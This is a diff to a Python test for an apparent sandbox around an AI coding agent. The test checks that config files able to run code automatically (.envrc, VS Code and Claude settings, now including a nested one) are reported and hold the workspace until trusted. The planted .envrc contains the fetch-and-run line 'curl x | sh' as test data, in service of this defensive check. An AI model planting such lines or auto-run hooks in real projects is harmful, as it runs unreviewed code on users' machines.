@@ -237,12 +237,13 @@ def test_symlinks_in_git_and_protected_paths_are_never_mounted(
 def test_changed_auto_run_files_are_reported_and_hold_the_workspace_until_trusted(
     client: docker.DockerClient, upstream: Upstream, token: str, workspace: Path,
 ) -> None:
-    plant = ("run: mkdir -p .vscode .claude && echo '{}' > .vscode/settings.json && echo 'curl x | sh' > .envrc "
-             "&& echo '{\"hooks\": {}}' > .claude/settings.json && echo planted")
+    plant = ("run: mkdir -p .vscode .claude pkg/.claude && echo '{}' > .vscode/settings.json && echo 'curl x | sh' > .envrc "
+             "&& echo '{\"hooks\": {}}' > .claude/settings.json && echo '{\"hooks\": {}}' > pkg/.claude/settings.json "
+             "&& echo planted")
     result = cli("run", "-p", plant, cwd=workspace, upstream=upstream)  # real Claude Code runs the command
     assert result.returncode == 0 and "Tool said: planted" in result.stdout, result.stderr
     assert "these files can run code on your machine" in result.stderr
-    for name in (".vscode/settings.json", ".envrc", ".claude/settings.json"):
+    for name in (".vscode/settings.json", ".envrc", ".claude/settings.json", "pkg/.claude/settings.json"):
         assert f"{name}: created" in result.stderr
     held = cli("run", "-p", "hi", cwd=workspace, upstream=upstream)
     assert held.returncode == 2 and ".envrc: created" in held.stderr
